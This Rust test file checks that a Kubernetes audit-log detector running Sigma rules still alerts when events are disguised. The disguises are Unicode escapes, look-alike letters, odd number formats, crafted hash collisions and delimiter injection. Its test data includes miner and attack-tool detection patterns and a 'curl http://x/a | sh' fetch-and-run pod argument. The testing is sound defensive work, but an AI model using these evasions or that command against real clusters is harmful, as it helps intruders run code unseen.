//! Events a Sigma rule matches (as the engine evaluates it on the event
//! alone) written the ways a request's sender can choose to slip past the
//! prefilter or the parser: each still alerts through the whole pipeline.

mod common;

use std::sync::Arc;

use common::{invoke_body, RecordingSink};
use eks_audit_detector::alert::Alert;
use eks_audit_detector::config::DetectorConfig;
use eks_audit_detector::handler::Processor;
use eks_audit_detector::rules::{sigma as sigma_rules, Detector};
use eks_audit_detector::sigma::event::SigmaEvent;
use eks_audit_detector::sigma::{self, LoadedText, SigmaRules, SigmaSet};
use eks_audit_detector::store::memory::MemoryStore;
use serde_json::{json, Value};

const T0: i64 = 1_715_644_800_000;
const GROUP: &str = "/aws/eks/prod/cluster";

fn loaded(list: &[(&str, &str)]) -> SigmaSet {
    let files: Vec<LoadedText> = list
        .iter()
        .map(|(name, text)| LoadedText {
            name: (*name).to_owned(),
            text: (*text).to_owned(),
        })
        .collect();
    let set = sigma::load(&files);
    assert!(set.problems.is_empty(), "{:?}", set.problems);
    set
}

/// Every rule of `set` enabled.
fn config_of(set: SigmaSet) -> DetectorConfig {
    let ids: Vec<String> = set.rules.iter().map(|r| r.id.clone()).collect();
    DetectorConfig {
        sigma: SigmaRules(Arc::new(set)),
        enabled_rules: ids,
        ..DetectorConfig::default()
    }
}

/// The rules of `config`: its Sigma rules only, or with the built-in ones.
fn detector_with(config: DetectorConfig, builtins: bool) -> Detector {
    if builtins {
        Detector::new(config)
    } else {
        let rules = sigma_rules::rules(&config);
        Detector::with_rules(config, rules)
    }
}

fn detector_of(set: SigmaSet, builtins: bool) -> Detector {
    detector_with(config_of(set), builtins)
}

/// The alerts `events` raise through the whole pipeline.
fn published(detector: Detector, events: &[(i64, String)]) -> Vec<Alert> {
    let p = Processor::new(detector, MemoryStore::new(), RecordingSink::default());
    let body = invoke_body(GROUP, "s", events);
    common::block_on(p.handle_invoke_body(body.as_bytes())).expect("handled");
    p.sink().published()
}

fn audit(fields: Value) -> Value {
    let mut ev = json!({
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "RequestResponse",
        "auditID": "a-1",
        "stage": "ResponseComplete",
        "requestURI": "/apis/apps/v1/namespaces/default/deployments/web",
        "verb": "patch",
        "user": {"username": "alice", "groups": ["system:authenticated"]},
        "sourceIPs": ["52.1.2.3"],
        "userAgent": "kubectl/v1.30.0",
        "objectRef": {"resource": "deployments", "namespace": "default", "name": "web",
                      "apiGroup": "apps", "apiVersion": "v1"},
        "responseStatus": {"metadata": {}, "code": 200},
        "requestReceivedTimestamp": "2024-05-14T00:00:00.000000Z",
        "stageTimestamp": "2024-05-14T00:00:00.100000Z",
    });
    if let (Value::Object(a), Value::Object(b)) = (&mut ev, fields) {
        a.extend(b);
    }
    ev
}

fn rule(id: &str, sel: &str) -> String {
    format!(
        "title: {id}\nid: {id}\nlogsource: {{product: kubernetes, service: audit}}\n\
         detection:\n  sel:\n{sel}  condition: sel\n"
    )
}

/// Whether the loaded rule `id` matches `text` on its own (no prefilter).
fn engine_matches(set: &SigmaSet, id: &str, text: &str) -> bool {
    let r = set.rules.iter().find(|r| r.id == id).expect("rule");
    r.matches(&SigmaEvent::new(text))
}

/// Alerts of rule `id` when `text` goes through the whole pipeline.
fn pipeline_alerts(set: SigmaSet, builtins: bool, id: &str, text: &str) -> usize {
    published(detector_of(set, builtins), &[(T0, text.to_owned())])
        .iter()
        .filter(|a| a.rule_id.to_string() == id)
        .count()
}

/// A letter written as an escape (`xm\u0072ig`) may hide any string: every
/// Sigma rule reads the message, even when another anchor in it (a
/// built-in rule's, here `anonymous` in a label) already keeps it.
#[test]
fn an_escaped_letter_keeps_every_sigma_rule_even_beside_another_anchor() {
    let miner = rule(
        "miner-image",
        "    requestObject.spec.template.spec.containers.image|contains: xmrig\n",
    );
    // A PATCH body is logged as sent: its escapes reach the audit event.
    let ev = audit(
        json!({"requestObject": {"metadata": {"labels": {"team": "anonymous"}},
        "spec": {"template": {"spec": {"containers": [{"name": "c", "image": "evil/XMRIG_PLACEHOLDER"}]}}}}}),
    );
    let text = ev.to_string().replace("XMRIG_PLACEHOLDER", r"xm\u0072ig");
    let set = loaded(&[("m.yml", &miner)]);
    assert!(engine_matches(&set, "miner-image", &text));
    // without the decoy word the escape check keeps the line: it alerts
    let plain = text.replace("anonymous", "payments");
    assert_eq!(
        pipeline_alerts(loaded(&[("m.yml", &miner)]), true, "miner-image", &plain),
        1
    );
    // with `anonymous` anywhere (a built-in rule's anchor) it does not
    assert_eq!(
        pipeline_alerts(loaded(&[("m.yml", &miner)]), true, "miner-image", &text),
        1,
        "the escaped line is no longer a candidate for the Sigma rule"
    );
}

/// `field: null` matches an event without the field (Sigma: null means
/// absent): the field's name is not required in the text.
#[test]
fn a_null_value_matches_an_absent_field_without_its_name_in_the_text() {
    let r = rule(
        "no-subresource-secret",
        "    objectRef.resource: secrets\n    objectRef.subresource: null\n",
    );
    let ev = audit(json!({"verb": "get",
        "objectRef": {"resource": "secrets", "namespace": "default", "name": "db", "apiVersion": "v1"}}));
    let text = ev.to_string();
    let set = loaded(&[("r.yml", &r)]);
    assert!(engine_matches(&set, "no-subresource-secret", &text));
    // control: the same event with the word `subresource` anywhere alerts
    let with_word = text.replace("kubectl/v1.30.0", "kubectl/v1.30.0 subresource");
    assert_eq!(
        pipeline_alerts(
            loaded(&[("r.yml", &r)]),
            false,
            "no-subresource-secret",
            &with_word
        ),
        1
    );
    assert_eq!(
        pipeline_alerts(
            loaded(&[("r.yml", &r)]),
            false,
            "no-subresource-secret",
            &text
        ),
        1
    );
}

/// Integer equality compares numbers as numbers (JSON `1e3`, `1000.0`,
/// strings `"01000"`, `"+1e3"`): in a request body, where the sender
/// writes the number, the digits `1000` are not required.
#[test]
fn a_number_written_otherwise_still_matches_in_a_request_body() {
    let r = rule(
        "run-as-1000",
        "    requestObject.spec.template.spec.securityContext.runAsUser: 1000\n",
    );
    let mut missed = Vec::new();
    for written in ["1e3", "1.0e3", r#""01000""#, r#""+1e3""#, "1000.0"] {
        let text = audit(json!({"requestObject": {"spec": {"template": {"spec": {
            "securityContext": {"runAsUser": "NUM_PLACEHOLDER"}}}}}}))
        .to_string()
        .replace(r#""NUM_PLACEHOLDER""#, written);
        let set = loaded(&[("r.yml", &r)]);
        assert!(engine_matches(&set, "run-as-1000", &text), "{written}");
        // control: written `1000` it alerts
        let control = text.replace(written, "1000");
        assert_eq!(
            pipeline_alerts(loaded(&[("r.yml", &r)]), false, "run-as-1000", &control),
            1
        );
        if pipeline_alerts(loaded(&[("r.yml", &r)]), false, "run-as-1000", &text) != 1 {
            missed.push(written);
        }
    }
    assert!(
        missed.is_empty(),
        "no alert for runAsUser written as {missed:?}"
    );
}

/// The engine lower-cases as Unicode does (KELVIN SIGN U+212A to `k`,
/// U+0130 to `i` and a dot): such a letter, raw or escaped, keeps every
/// Sigma rule reading the message.
#[test]
fn letters_unicode_lower_cases_to_ascii_reach_the_engine() {
    let r = rule("kubehunter", "    userAgent|contains: kube-hunter\n");
    let text = audit(json!({"userAgent": "\u{212A}ube-hunter/0.6"})).to_string();
    // the same, escaped (upper and lower case hex), and the dotted capital I
    for (escaped, rule_text) in [
        (text.replace('\u{212A}', r"\u212A"), "kube-hunter"),
        (text.replace('\u{212A}', r"\u212a"), "kube-hunter"),
        // U+0130 lower-cases to `i` and a combining dot: a string ending
        // in `i` is found in it.
        (
            audit(json!({"userAgent": "wasab\u{130}/1.0"})).to_string(),
            "wasabi",
        ),
        (
            audit(json!({"userAgent": "wasab\u{130}/1.0"}))
                .to_string()
                .replace('\u{130}', r"\u0130"),
            "wasabi",
        ),
    ] {
        let r = rule("ua", &format!("    userAgent|contains: {rule_text}\n"));
        assert!(
            engine_matches(&loaded(&[("r.yml", &r)]), "ua", &escaped),
            "{escaped}"
        );
        assert_eq!(
            pipeline_alerts(loaded(&[("r.yml", &r)]), false, "ua", &escaped),
            1,
            "{escaped}"
        );
    }
    let set = loaded(&[("r.yml", &r)]);
    assert!(engine_matches(&set, "kubehunter", &text));
    // control: in ASCII it alerts
    let ascii = text.replace('\u{212A}', "K");
    assert_eq!(
        pipeline_alerts(loaded(&[("r.yml", &r)]), false, "kubehunter", &ascii),
        1
    );
    assert_eq!(
        pipeline_alerts(loaded(&[("r.yml", &r)]), false, "kubehunter", &text),
        1
    );
}

/// A value with a wildcard is compared as a case-insensitive regular
/// expression, for which U+017F LONG S is an `s` (and U+212A a `k`): raw
/// or escaped, it keeps every Sigma rule reading the message.
#[test]
fn a_long_s_reaches_a_wildcard_rule() {
    let r = rule("dump", "    userAgent: '*secretdump*'\n");
    let raw = audit(json!({"userAgent": "\u{17f}ecretdump/1.0"})).to_string();
    for text in [
        raw.clone(),
        raw.replace('\u{17f}', r"\u017f"),
        raw.replace('\u{17f}', r"\u017F"),
        audit(json!({"userAgent": "secretdump/1.0 \u{212a}"})).to_string(),
    ] {
        let set = loaded(&[("r.yml", &r)]);
        assert!(engine_matches(&set, "dump", &text), "{text}");
        assert_eq!(
            pipeline_alerts(loaded(&[("r.yml", &r)]), false, "dump", &text),
            1,
            "{text}"
        );
    }
    // control: a value without the letters is not read by the rule
    let other = audit(json!({"userAgent": "kubectl/1.30"})).to_string();
    assert_eq!(
        pipeline_alerts(loaded(&[("r.yml", &r)]), false, "dump", &other),
        0
    );
}

/// `value_count` keeps each distinct value as a hash. Two names whose
/// 64-bit FNV-1a hashes collide (found by lattice reduction in minutes)
/// still count as two.
#[test]
fn names_chosen_to_collide_in_fnv_count_as_two_values() {
    let a = "41v4q89faxq124mr62jt";
    let b = "3sdl6zhcb6m5042047hw";
    assert_eq!(
        eks_audit_detector::vocab::stable_hash(&[a]) as u64,
        eks_audit_detector::vocab::stable_hash(&[b]) as u64
    );
    let rules = "\
title: Pod created
id: pod-create
logsource: {product: kubernetes, service: audit}
detection:
  sel:
    verb: create
    objectRef.resource: pods
  condition: sel
---
title: Pods under two names
id: many-pods
correlation:
  type: value_count
  rules: [pod-create]
  group-by: [user.username]
  timespan: 10m
  condition:
    gte: 2
    field: objectRef.name
level: high
";
    let pod = |n: usize, name: &str| {
        let mut ev = audit(json!({"verb": "create",
            "objectRef": {"resource": "pods", "namespace": "default", "name": name, "apiVersion": "v1"}}));
        ev["auditID"] = json!(format!("a-{n}"));
        ev.to_string()
    };
    let alerts = |x: &str, y: &str| {
        published(
            detector_of(loaded(&[("r.yml", rules)]), false),
            &[(T0, pod(1, x)), (T0 + 1, pod(2, y))],
        )
        .len()
    };
    // control: two other distinct names alert
    assert_eq!(alerts("web-1", "web-2"), 1);
    assert_eq!(alerts(a, b), 1, "two distinct names counted as one");
}

/// A body that also carries one field nested 200 deep (past the parser's
/// limit) is still read: the deep part reads as null.
#[test]
fn one_deeply_nested_field_does_not_hide_the_rest_of_the_body() {
    let r = rule(
        "host-network",
        "    requestObject.spec.template.spec.hostNetwork: true\n",
    );
    let deep = format!("{}1{}", "[".repeat(200), "]".repeat(200));
    let text = audit(json!({"requestObject": {"spec": {"template": {"spec": {
        "hostNetwork": true, "x": "DEEP"}}}}}))
    .to_string()
    .replace(r#""DEEP""#, &deep);
    assert_eq!(
        pipeline_alerts(loaded(&[("r.yml", &r)]), false, "host-network", &text),
        1
    );
}

/// Values longer than a key keeps stay distinct when they differ only past
/// the cut: two service accounts whose usernames share their first 300
/// bytes each get their own alert from a plain rule (whose dedup key is
/// the cluster, the user and the first source address), and two such
/// user agents count as two values of a `value_count`.
#[test]
fn long_values_that_differ_only_past_the_cut_stay_distinct() {
    let shared = "a".repeat(300);
    let plain = rule(
        "secret-read",
        "    verb: get\n    objectRef.resource: secrets\n",
    );
    let read = |n: usize, user: &str, ua: &str| {
        let mut ev = audit(json!({"verb": "get", "userAgent": ua,
            "user": {"username": user, "groups": ["system:serviceaccounts"]},
            "objectRef": {"resource": "secrets", "namespace": "default", "name": "db", "apiVersion": "v1"}}));
        ev["auditID"] = json!(format!("a-{n}"));
        ev.to_string()
    };
    let run = |rules: &str, events: Vec<(i64, String)>| {
        published(detector_of(loaded(&[("r.yml", rules)]), false), &events).len()
    };
    let user = |end: &str| format!("system:serviceaccount:default:{shared}{end}");
    assert_eq!(
        run(
            &plain,
            vec![
                (T0, read(1, &user("-x"), "kubectl")),
                (T0 + 1, read(2, &user("-y"), "kubectl"))
            ]
        ),
        2,
        "one alert per service account"
    );
    // the same account twice: one alert
    assert_eq!(
        run(
            &plain,
            vec![
                (T0, read(1, &user("-x"), "kubectl")),
                (T0 + 1, read(2, &user("-x"), "kubectl"))
            ]
        ),
        1
    );
    let counting = format!(
        "{plain}---\ntitle: Two agents\nid: two-agents\ncorrelation:\n  type: value_count\n  \
         rules: [secret-read]\n  group-by: [user.username]\n  timespan: 10m\n  condition:\n    \
         gte: 2\n    field: userAgent\nlevel: high\n"
    );
    let agents = |x: &str, y: &str| {
        run(
            &counting,
            vec![(T0, read(1, "bob", x)), (T0 + 1, read(2, "bob", y))],
        )
    };
    // (a rule a correlation counts does not alert on its own)
    assert_eq!(agents(&format!("{shared}/1"), &format!("{shared}/1")), 0);
    assert_eq!(agents(&format!("{shared}/1"), &format!("{shared}/2")), 1);
}

/// In the hardened setting a plain rule's source address is the last of
/// `sourceIPs` (the connection's): picked from the whole list, however
/// long the forwarded chain in front of it.
#[test]
fn the_connection_address_is_found_behind_a_long_forwarded_chain() {
    let r = rule(
        "secret-read",
        "    verb: get\n    objectRef.resource: secrets\n",
    );
    let mut chain: Vec<String> = (0..2000)
        .map(|i| format!("10.0.{}.{}", i / 250, i % 250))
        .collect();
    chain.push("52.94.76.10".into());
    let text = audit(json!({"verb": "get", "sourceIPs": chain,
        "objectRef": {"resource": "secrets", "namespace": "default", "name": "db", "apiVersion": "v1"}}))
    .to_string();
    let config = DetectorConfig {
        multiple_403_source: eks_audit_detector::config::SourceAddress::FirstOrLast,
        ..config_of(loaded(&[("r.yml", &r)]))
    };
    let published = published(detector_with(config, false), &[(T0, text)]);
    assert_eq!(published.len(), 1);
    assert!(
        published[0].dedup.ends_with("|52.94.76.10"),
        "{}",
        published[0].dedup
    );
}

/// Short numbers are found in the one pass for short strings, beside the
/// escapes and the built-in rules' `403`: a Sigma rule on a status code
/// alerts whatever stands next to it, with or without the built-in rules,
/// and not on a longer number.
#[test]
fn a_status_code_rule_alerts_beside_escapes_and_the_builtin_403() {
    let r = rule(
        "denied",
        "    responseStatus.code:\n      - 401\n      - 403\n",
    );
    for builtins in [false, true] {
        for (code, uri, want) in [
            (403, "/api/v1/pods", 1),
            (401, "/api/v1/pods?a=b&c=403", 1),
            (403, "/api/v1/pods?a=403&b=\u{20}401", 1),
            (4030, "/api/v1/pods", 0),
            (200, "/api/v1/pods?a=403&b=401", 0),
        ] {
            // kube-apiserver writes `&` as `\u0026`
            let text = audit(json!({"requestURI": uri, "responseStatus": {"code": code}}))
                .to_string()
                .replace('&', "\\u0026");
            let set = loaded(&[("r.yml", &r)]);
            assert_eq!(engine_matches(&set, "denied", &text), want == 1, "{text}");
            assert_eq!(
                pipeline_alerts(set, builtins, "denied", &text),
                want,
                "builtins {builtins}: {text}"
            );
        }
    }
}

/// A PATCH body is logged as its sender wrote it. A surrogate escape
/// without its pair (which Go's decoder reads as U+FFFD, so the patch
/// applies) or a number too large for a float, anywhere in the body, must
/// not hide the rest of it from a rule reading a field or a keyword.
#[test]
fn an_odd_value_anywhere_in_a_patch_body_does_not_hide_it() {
    let field = rule(
        "host-network",
        "    requestObject.spec.template.spec.hostNetwork: true\n",
    );
    let keyword = "title: kw\nid: kw\nlogsource: {product: kubernetes, service: audit}\n\
                   detection:\n  words:\n    - 'xmrig'\n  condition: words\n";
    let text = audit(
        json!({"requestObject": {"metadata": {"annotations": {"a": "ODD"}},
        "spec": {"replicas": 7, "template": {"spec": {"hostNetwork": true,
        "containers": [{"name": "c", "image": "evil/xmrig"}]}}}}}),
    )
    .to_string();
    for (find, odd) in [
        (r#""ODD""#, r#""\ud800""#),
        ("\"replicas\":7", "\"replicas\":1e400"),
    ] {
        let odd_text = text.replace(find, odd);
        assert_ne!(odd_text, text);
        for (file, id) in [(&field[..], "host-network"), (keyword, "kw")] {
            let set = loaded(&[("r.yml", file)]);
            assert!(engine_matches(&set, id, &odd_text), "{id} with {odd}");
            assert_eq!(
                pipeline_alerts(set, true, id, &odd_text),
                1,
                "{id} with {odd}"
            );
        }
    }
}

/// Values a request's sender chooses cannot make two requests one key: a
/// `|` in a value (which joins a key's values) and a short value that
/// spells a long value's cut key each keep two alerts two, for a plain
/// rule's dedup fields and a correlation's group-by alike.
#[test]
fn chosen_values_cannot_make_two_keys_one() {
    let agent = "title: Agent\nid: agent\nlogsource: {product: kubernetes, service: audit}\n\
                 detection:\n  sel:\n    userAgent|contains: 'evil'\n  condition: sel\n\
                 dedup_fields: [userAgent, requestURI]\n";
    let ev = |n: usize, ua: &str, uri: &str| {
        let mut ev = audit(json!({"userAgent": ua, "requestURI": uri}));
        ev["auditID"] = json!(format!("a-{n}"));
        ev.to_string()
    };
    // Alerts of `rules` for a request with (user agent, URI) `a`, then `b`.
    let alerts = |rules: &str, a: (&str, &str), b: (&str, &str)| {
        let events = vec![(T0, ev(1, a.0, a.1)), (T0 + 1, ev(2, b.0, b.1))];
        published(detector_of(loaded(&[("r.yml", rules)]), false), &events).len()
    };
    assert_eq!(alerts(agent, ("evil|/a", "/x"), ("evil", "/a|/x")), 2);
    assert_eq!(alerts(agent, ("evil\\", "q|/x"), ("evil|q\\", "/x")), 2);
    // the same pair twice: one
    assert_eq!(alerts(agent, ("evil|/a", "/x"), ("evil|/a", "/x")), 1);
    // a short value written as a long one's cut key
    let long = format!("evil{}", "x".repeat(300));
    let forged = sigma::key_value(&long);
    assert!(forged.len() <= 256 && forged != long);
    assert_eq!(alerts(agent, (&long, "/x"), (&forged, "/x")), 2);
    // A correlation's groups: one event in each of two groups is no pair.
    let many = "title: Agent\nid: agent\nlogsource: {product: kubernetes, service: audit}\n\
                detection:\n  sel:\n    userAgent|contains: 'evil'\n  condition: sel\n\
                ---\ntitle: Many\nid: many\ncorrelation:\n  type: event_count\n  rules: [agent]\n  \
                group-by: [userAgent, requestURI]\n  timespan: 10m\n  condition:\n    gte: 2\n";
    assert_eq!(alerts(many, ("evil|b", "c"), ("evil", "b|c")), 0);
    assert_eq!(alerts(many, ("evil|b", "c"), ("evil|b", "c")), 1);
}

/// As README says: a wildcard inside a value stops at a line break (the
/// engine's reading), and the `|re` form with `(?s)` that README gives
/// instead matches the command split over two lines.
#[test]
fn a_wildcard_stops_at_a_line_break_and_the_documented_regex_does_not() {
    let wildcard = rule(
        "pipe-to-shell",
        "    requestObject.spec.containers.args|contains: 'curl *| sh'\n",
    );
    let regex = rule(
        "pipe-to-shell-re",
        "    requestObject.spec.containers.args|re: '(?is)curl.*\\| sh'\n",
    );
    let pod = |arg: &str| {
        audit(
            json!({"verb": "create", "objectRef": {"resource": "pods", "namespace": "default",
            "name": "p", "apiVersion": "v1"},
            "requestObject": {"spec": {"containers": [{"name": "c", "args": ["-c", arg]}]}}}),
        )
        .to_string()
    };
    let one_line = pod("curl http://x/a | sh");
    let two_lines = pod("curl http://x/a\n| sh");
    let w = loaded(&[("w.yml", &wildcard)]);
    assert!(engine_matches(&w, "pipe-to-shell", &one_line));
    assert!(!engine_matches(&w, "pipe-to-shell", &two_lines));
    let r = loaded(&[("r.yml", &regex)]);
    assert!(engine_matches(&r, "pipe-to-shell-re", &one_line));
    assert!(engine_matches(&r, "pipe-to-shell-re", &two_lines));
    assert_eq!(pipeline_alerts(r, true, "pipe-to-shell-re", &two_lines), 1);
}

/// A correlation's title names its group (`field=value, ...`): a value
/// holding `, field=` cannot make two groups read alike.
#[test]
fn two_groups_never_share_a_title() {
    let rules = "title: Read\nid: read\nlogsource: {product: kubernetes, service: audit}\n\
                 detection:\n  sel:\n    verb: get\n  condition: sel\n\
                 ---\ntitle: Many\nid: many\ncorrelation:\n  type: event_count\n  rules: [read]\n  \
                 group-by: [user.username, objectRef.namespace]\n  timespan: 10m\n  condition:\n    gte: 1\n";
    let read = |n: usize, user: &str, ns: &str| {
        let mut ev = audit(json!({"verb": "get", "user": {"username": user},
            "objectRef": {"resource": "secrets", "name": "s", "namespace": ns, "apiVersion": "v1"}}));
        ev["auditID"] = json!(format!("a-{n}"));
        ev.to_string()
    };
    let alerts = published(
        detector_of(loaded(&[("r.yml", rules)]), false),
        &[
            (
                T0,
                read(1, "alice", "kube-system, objectRef.namespace=default"),
            ),
            (
                T0 + 1,
                read(2, "alice, objectRef.namespace=kube-system", "default"),
            ),
            (T0 + 2, read(3, "bob", "default")),
        ],
    );
    let mut titles: Vec<String> = alerts.iter().map(|a| a.title.clone()).collect();
    assert_eq!(titles.len(), 3);
    assert!(titles.contains(&"Many (user.username=bob, objectRef.namespace=default)".to_owned()));
    titles.sort();
    titles.dedup();
    assert_eq!(titles.len(), 3, "{titles:?}");
}
